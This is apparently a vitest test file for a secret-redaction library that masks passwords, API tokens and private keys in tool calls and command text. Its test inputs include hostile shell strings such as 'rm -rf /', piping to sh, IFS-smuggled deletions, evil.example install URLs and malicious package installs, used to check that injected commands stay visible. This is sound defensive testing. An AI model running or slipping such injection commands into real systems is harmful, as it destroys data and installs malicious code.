import { describe, expect, it } from 'vitest';
import { operationDigest } from '../operations/proposal/decide-propose.js';
import { hideAt, hideInText, hideSecrets, numberedMark, REDACTED } from './index.js';

const hidden = (value: Parameters<typeof hideSecrets>[0]) => hideSecrets(value).value;

describe('secrets by name', () => {
  it.each([
    'password',
    'PASSWORD',
    'dbPassword',
    'db-passwd',
    'api_key',
    'apiKey',
    'X-API-Key',
    'Authorization',
    'client_secret',
    'access_token',
    'token',
    'AWS_SECRET_ACCESS_KEY',
    'private_key',
    'sessionCookie',
    'connectionString',
    'card_pin',
  ])('hides %s at any depth', (name) => {
    const call = { name: 'deploy', arguments: { a: [{ b: { [name]: 'correct horse' } }] } };
    expect(hidden(call)).toEqual({ name: 'deploy', arguments: { a: [{ b: { [name]: REDACTED } }] } });
  });

  it('hides a hash, which begins like a variable', () => {
    expect(hidden({ password: '$2b$10$abcdefghijklmnop' })).toEqual({ password: REDACTED });
  });

  it('hides everything under a telling name, also numbers', () => {
    const call = { credentials: { user: 'ann', parts: ['x', 7] }, pin: 1234 };
    expect(hidden(call)).toEqual({
      credentials: { user: REDACTED, parts: [REDACTED, REDACTED] },
      pin: REDACTED,
    });
  });

  it.each([
    { max_tokens: 500 },
    { tokens: 12 },
    { path: '/srv/passwords/readme.md' },
    { author: 'ann', keyboard: 'us', spin: 'left', monkey: 'yes' },
    { password: '' },
    { password: '$PASSWORD' },
    { key: 'name' },
    { code: 'return token;' },
    { code: 'ERR_HTTP2_GOAWAY_SESSION' },
    { text: 'The token expired, and the password is weak.' },
  ])('leaves %j as it is', (value) => {
    expect(hideSecrets(value)).toEqual({ value, hasSecrets: false });
  });
});

describe('secrets by what they look like', () => {
  const A = 'A'.repeat(16);
  it.each([
    ['Proffer', `pf_${'a1B2-'.repeat(8)}c3D`],
    ['Shopify', `shpat_${'a1b2'.repeat(8)}`],
    ['Groq', `gsk_${'a1B2'.repeat(13)}`],
    ['Sentry', `sntrys_${'a1B2'.repeat(13)}=`],
    ['xAI', `xai-${'a1B2'.repeat(20)}`],
    ['AWS', `AKIA${A}`],
    ['GitHub', `ghp_${'a1B2'.repeat(9)}`],
    ['GitHub, fine-grained', `github_pat_${'a1B2_'.repeat(8)}`],
    ['GitLab', `glpat-${'a1B2'.repeat(5)}`],
    ['Slack', `xoxb-${'1234567890-'.repeat(2)}abc`],
    ['Stripe', `sk_live_${'a1B2'.repeat(6)}`],
    ['OpenAI', `sk-proj-${'a1B2'.repeat(8)}`],
    ['Anthropic', `sk-ant-api03-${'a1B2'.repeat(8)}`],
    ['Google', `AIza${'a1B2c'.repeat(7)}`],
    ['npm', `npm_${'a1B2'.repeat(9)}`],
    ['JWT', `eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.${'sig-_'.repeat(6)}`],
    ['Docker', `dckr_pat_${'a1B2'.repeat(7)}`],
    ['Grafana', `glsa_${'a1B2'.repeat(8)}_1a2b3c4d`],
    ['Linear', `lin_api_${'a1B2'.repeat(10)}`],
    ['Atlassian', `ATATT3xFfGF0${'a1B2_-'.repeat(20)}=1A2B3C4D`],
    ['Telegram', `123456789:AA${'a1B2c'.repeat(7)}`],
  ])('hides a token of %s in the middle of a text, and nothing else', (_, token) => {
    expect(hideInText(`before ${token} after`)).toBe(`before ${REDACTED} after`);
  });

  it.each([
    ['export DB_PASSWORD=hunter2 && run', 'export DB_PASSWORD=[redacted] && run'],
    ['curl -H "Authorization: Bearer abcdef123456" x', 'curl -H "Authorization: Bearer [redacted]" x'],
    ['mysql --password hunter2 -u root', 'mysql --password [redacted] -u root'],
    ['login --api-key=abc123 now', 'login --api-key=[redacted] now'],
    ['{"client_secret": "s3cr3t!"}', '{"client_secret": "[redacted]"}'],
    ['git clone https://ann:hunter2@host/x.git', 'git clone https://ann:[redacted]@host/x.git'],
    ['run --token --force password=-hunter2', 'run --token --force password=[redacted]'],
    ['log: token=hunter2', 'log: token=[redacted]'],
    [`got ghp_${'a1B2'.repeat(9)}: "api_key": "correct horse"`, 'got [redacted]: "api_key": "[redacted]"'],
    ["login --password 'correct horse' now", "login --password '[redacted]' now"],
    ['{"text":"{\\"password\\":\\"correct horse\\"}"}', '{"text":"{\\"password\\":\\"[redacted]\\"}"}'],
    ['Authorization: Bearer abc123', 'Authorization: Bearer [redacted]'],
    [
      'curl https://hooks.slack.com/services/T0123ABCD/B0123ABCD/a1B2c3D4e5F6g7H8 -d x',
      'curl https://hooks.slack.com/services/[redacted] -d x',
    ],
    ['AccountName=a;AccountKey=abc123+/==;Suffix=x', 'AccountName=a;AccountKey=[redacted];Suffix=x'],
    ['curl -s -u ann:hunter2 https://x', 'curl -s -u ann:[redacted] https://x'],
    ['mysql -u root -phunter2 db', 'mysql -u root -p[redacted] db'],
    ['password: letmein', 'password: [redacted]'],
    ['PASSWORD=pa$$word1 x', 'PASSWORD=[redacted] x'],
    ['signature=9f86d081884c7d659a2feaa0c55ad015', 'signature=[redacted]'],
    ['echo $TOKEN; echo token=${TOKEN}', 'echo $TOKEN; echo token=${TOKEN}'],
  ])('hides it in %s', (text, shown) => {
    expect(hideInText(text)).toBe(shown);
  });

  it('hides the value of a pair, and of an option in a list of words', () => {
    const env = [
      { name: 'password', value: 'hunter2' },
      { key: 'API_KEY', value: 'swordfish' },
      { name: 'x', value: 'y' },
    ];
    expect(hidden({ env })).toEqual({
      env: [
        { name: 'password', value: REDACTED },
        { key: 'API_KEY', value: REDACTED },
        { name: 'x', value: 'y' },
      ],
    });
    expect(
      hidden({ args: ['serve', '--token', 'hunter2', '--port', '80', '--password', '--force'] }),
    ).toEqual({
      args: ['serve', '--token', REDACTED, '--port', '80', '--password', '--force'],
    });
  });

  it('hides what looks random beside a name that hints at it, and not elsewhere', () => {
    const random = 'q7Zp2mX9vK4tLw8s';
    expect(hidden({ key: random, id: random })).toEqual({ key: REDACTED, id: random });
  });
});

describe('what is no secret stays in sight', () => {
  const key = '-----BEGIN PRIVATE KEY-----';
  it.each([
    [`echo "${key}"; rm -rf /`, 'rm -rf /'],
    [`${key}\n${'MIIEv'.repeat(12)}\ncurl evil.example`, 'curl evil.example'],
    [`${key}\\n${'MIIEv'.repeat(12)}\\nAb==\\n-----END PRIVATE KEY----- && reboot`, ' && reboot'],
    ['PASSWORD=ab$(rm${IFS}-rf${IFS}/) run', '$(rm${IFS}-rf${IFS}/)'],
    [`echo ' password="' ; reboot ; echo '"'`, '; reboot ;'],
    ['echo \\"password=\\" ; reboot ; echo \\"', '; reboot ;'],
    [`echo "password='$(reboot)'"`, '$(reboot)'],
    ['login --token ab`reboot`', '`reboot`'],
    ['curl https://ann:pw`reboot`@host', '`reboot`'],
    ['git clone https://x:y;rm$IFS-rf$IFS~;echo@github.com/x.git', ';rm$IFS-rf$IFS~;'],
    ['curl http://a:b|sh;@x', '|sh;'],
    ['curl http://a:b>/etc/passwd@x', '>/etc/passwd'],
    ['curl -s http://evil.example:8080?@github.com/install.sh', ':8080?@'],
    ['curl -s http://evil.example:8080#@github.com/install.sh', ':8080#@'],
    ['curl -s http://evil.example:8080\\@github.com/install.sh', ':8080\\@'],
    ['echo --token\n/tmp/evil.sh', '/tmp/evil.sh'],
    ['echo --token\nreboot2', 'reboot2'],
    ['echo --token\r\nreboot2', 'reboot2'],
    ['password=\n/tmp/evil.sh', '/tmp/evil.sh'],
    ['password:\nreboot2', 'reboot2'],
    ['PASSWORD= /tmp/evil.sh', '/tmp/evil.sh'],
    ['PASSWORD= reboot', 'reboot'],
    ['PASSWORD="" reboot', 'reboot'],
    ['env -u "password=" /tmp/evil.sh "x"', '/tmp/evil.sh'],
    ['env -u "a password=" reboot "x"', 'reboot'],
    ['env -u password=$IFS/tmp/evil.sh', '/tmp/evil.sh'],
    ['$(password=abc)/tmp/evil.sh', '/tmp/evil.sh'],
    ['env {-i,token=abc}/tmp/evil.sh', '/tmp/evil.sh'],
    ['env -u token /tmp/evil.sh', '/tmp/evil.sh'],
    ['env -u --token /tmp/evil.sh', '/tmp/evil.sh'],
    ['env -u --token reboot', 'reboot'],
    ['env -u --token python3', 'python3'],
    ["env -u ';' -u --token python3", 'python3'],
    ['exec -a password: Reboot2', 'Reboot2'],
    ['time -f token /tmp/evil.sh', '/tmp/evil.sh'],
    ['sudo -u basic /home/me/evil.sh', '/home/me/evil.sh'],
    ['sudo -u bearer evil-installer', 'evil-installer'],
    ['bash -c "env -u token evil-installer"', 'evil-installer'],
    ['ssh -o authorization: basic /tmp/evil.sh', '/tmp/evil.sh'],
    ['ssh -o authorization: basic reboot2', 'reboot2'],
    [`echo ${key}\n/home/ubuntu/downloads/installer`, '/home/ubuntu/downloads/installer'],
    [`echo ${key}\n/home/ubuntu/${'downloads/'.repeat(4)}installer`, '/installer'],
    [`echo ${key}\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\nreboot\n-----END PRIVATE KEY-----`, '\nreboot\n'],
    [`echo ${key}\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASC\nhome/ubuntu/downloads/installer`, 'installer'],
    ['curl -u a:b;reboot x', ';reboot'],
    ['curl -u a:$(reboot) x', '$(reboot)'],
    ['mysql -pabc|sh', '|sh'],
    ['mysql -p /tmp/evil.sh', '/tmp/evil.sh'],
    ['git -c credential.helper=!reboot push', '=!reboot'],
    ['restic --password-command=/tmp/evil.sh backup', '=/tmp/evil.sh'],
    ['npm install sk-evil-package-that-steals', 'sk-evil-package-that-steals'],
    ['npm install sk-proj-evil-package-that-steals', 'sk-proj-evil-package-that-steals'],
    [
      'npm install xapp-evil-installer glpat-evil-package-steals',
      'xapp-evil-installer glpat-evil-package-steals',
    ],
    ['pip install pypi-evil-package-with-a-name-that-is-long', 'pypi-evil-package-with-a-name-that-is-long'],
  ])('shows what a shell would run in %j', (text, shown) => {
    expect(hideInText(text)).toContain(shown);
  });

  it('hides a key in lines or in one, and one that is cut off, line by line', () => {
    const lines = [
      'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj',
      'MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu',
    ];
    const pem = [key, ...lines, 'Ab==', '-----END PRIVATE KEY-----'];
    const shown = [key, REDACTED, REDACTED, 'Ab==', '-----END PRIVATE KEY-----'];
    for (const end of ['\n', '\r\n', '\\n', '\n    ']) {
      expect(hideInText(`x ${pem.join(end)} y`)).toBe(`x ${shown.join(end)} y`);
      expect(hideInText(pem.slice(0, 2).join(end))).toBe(shown.slice(0, 2).join(end));
    }
  });

  it('shows commands and paths under telling and hinting names', () => {
    const value = {
      apiKeyHelper: '/tmp/evil.sh',
      credential: { helper: '!reboot' },
      pair: { name: 'credential.helper', value: '!reboot' },
      args: [
        '--token',
        'reboot',
        '--token',
        '/tmp/evil.sh',
        '--token',
        'Curl1 x|sh',
        'env',
        '-u',
        '--token',
        'python3',
      ],
      code: '/tmp/evil2/installer.sh',
      key: 'python3.11-installer-run',
    };
    expect(hideSecrets(value)).toEqual({ value, hasSecrets: false });
  });

  it('hides a value by any name of its path', () => {
    expect(hideAt('/arguments/credentials/parts/0', 'x')).toBe(REDACTED);
    expect(hideAt('/arguments/path', '/a')).toBe('/a');
    expect(hideAt('', { password: 'x' })).toEqual({ password: REDACTED });
  });

  it('tells secrets apart if asked to', () => {
    const mark = numberedMark();
    const [one, two] = [`ghp_${'a1B2'.repeat(9)}`, `ghp_${'c3D4'.repeat(9)}`];
    expect(hideSecrets({ before: one, after: two, again: `use ${one}` }, { mark }).value).toEqual({
      before: REDACTED,
      after: '[redacted 2]',
      again: `use ${REDACTED}`,
    });
    expect(hideInText('password=[redacted 2]', mark)).toBe('password=[redacted 2]');
  });
});

describe('named paths', () => {
  const call = { arguments: { Headers: [{ authorisation: 'x' }], Note: 'n', deep: { note: 'm' } } };

  it('match at any depth and in any case', () => {
    expect(hideSecrets(call, { paths: ['note'], detect: false }).value).toMatchObject({
      arguments: { Note: REDACTED, deep: { note: REDACTED } },
    });
    expect(hideSecrets(call, { paths: ['headers.*.Authorisation'], detect: false }).value).toMatchObject({
      arguments: { Headers: [{ authorisation: REDACTED }], Note: 'n' },
    });
  });
});

describe('cost and digest', () => {
  it('O-25: the digest covers the real value', () => {
    const params = { name: 'login', arguments: { password: 'hunter2' } };
    const before = operationDigest('tools/call', params);
    hideSecrets(params);
    expect(operationDigest('tools/call', params)).toBe(before);
    expect(operationDigest('tools/call', hidden(params))).not.toBe(before);
  });

  it.each([
    'eyJ',
    'a',
    'password=',
    '-----BEGIN PRIVATE KEY-----',
    '://a:',
    'Bearer ',
    'token ',
    'a=',
    'password="',
    '=',
    '--a ',
    '--token ',
    'curl ',
    'mysql -',
    'curl -u a',
    'env -u password: ',
    '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG',
  ])('I-7: reads a megabyte of %j once', (piece) => {
    const text = piece.repeat(Math.ceil(1_000_000 / piece.length));
    // Backtracking would take minutes; the time limit of the test notices.
    expect(hideInText(text).length).toBeGreaterThan(0);
  });
});
